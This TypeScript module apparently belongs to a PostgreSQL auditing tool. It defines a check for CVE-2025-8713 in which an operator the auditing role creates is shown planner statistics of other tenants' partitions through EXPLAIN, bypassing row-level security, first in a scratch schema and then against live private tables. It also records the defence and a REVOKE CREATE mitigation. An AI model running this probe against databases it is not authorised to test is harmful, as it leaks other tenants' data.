import { quoteIdentifier, quoteLiteral } from "../../../postgres/sql/quote";
import { quoteObject } from "../../../postgres/sql/target";
import { heldBack, type Observation, unable } from "../../observation";
import { whyMissing } from "../../seed/seeds";
import { SCRATCH, scratchSchema } from "../scratch";
import { mayTry } from "../tenant/actions";
import { holeAttack } from "./hole";
import { leakyOperator, whereToCreate } from "./leaky-operator";

const OPERATOR = "<<<!";
/** Asks the operator about every most common value, and about every bound of the histogram. */
const ESTIMATOR = "pg_catalog.scalarltsel";

/** The planner asks an operator about the values in its statistics; those of a partition it showed without row security. */
export default holeAttack({
  id: "hole-statistics",
  hole: "CVE-2025-8713",
  title: "Uses a hole: the planner shows statistics of partitions and children to a leaky operator",
  severity: "medium",
  why: "The most common values of every tenant are handed to an operator of the attacker's own by a mere EXPLAIN.",
  defence: "no schema in which a low-trust role may create an operator",
  harmless: "it can create no operator, or its operator is shown no statistics",
  meanwhile: "REVOKE CREATE on the database and on every schema FROM the role and from PUBLIC",
  shownBy: ["22012"],
  trial: ({ stranger: { role } }) => ({
    prepare: [
      ...scratchSchema(role),
      `CREATE TABLE ${SCRATCH}.rows (tenant text) PARTITION BY LIST (tenant)`,
      `CREATE TABLE ${SCRATCH}.part PARTITION OF ${SCRATCH}.rows DEFAULT`,
      `INSERT INTO ${SCRATCH}.rows SELECT tenant FROM unnest(ARRAY['own', 'other']) AS tenant, generate_series(1, 5)`,
      `ALTER TABLE ${SCRATCH}.rows ENABLE ROW LEVEL SECURITY`,
      `CREATE POLICY tenant ON ${SCRATCH}.rows USING (tenant = 'own')`,
      // What a role may read directly has no policy of its parent's: there the planner stopped looking.
      `GRANT SELECT ON ${SCRATCH}.rows, ${SCRATCH}.part TO ${quoteIdentifier(role)}`,
      `ANALYZE ${SCRATCH}.rows`,
    ],
    statements: [
      ...leakyOperator(SCRATCH, OPERATOR, "text", "own", ESTIMATOR),
      `EXPLAIN SELECT FROM ${SCRATCH}.rows WHERE tenant OPERATOR(${SCRATCH}.${OPERATOR}) 'own'::text`,
    ],
    read: () => heldBack("the operator was shown no statistics"),
  }),
  breaches: { "22012": "an operator of its own was shown statistics of other tenants' rows" },
  here: async (context) => {
    const workshop = await whereToCreate(context);
    if (workshop === undefined) return [];
    const { create, name } = workshop;
    const tables = context.privateTables.filter((table) => mayTry(context, table, "read"));
    return Promise.all(
      tables.map(async (table): Promise<Observation> => {
        const { object, column, type } = table;
        const seed = context.seed(table);
        if ("missing" in seed) return unable(whyMissing(seed));
        return context.attempt({
          statements: [
            ...create,
            context.serve(table, seed.own),
            ...leakyOperator(name, OPERATOR, type, seed.own.tenant, ESTIMATOR),
            `EXPLAIN SELECT FROM ${quoteObject(object)}
              WHERE ${quoteIdentifier(column)} OPERATOR(${name}.${OPERATOR}) ${quoteLiteral(seed.own.tenant)}::${type}`,
          ],
          read: () => heldBack("the operator was shown no statistics"),
        });
      }),
    );
  },
});
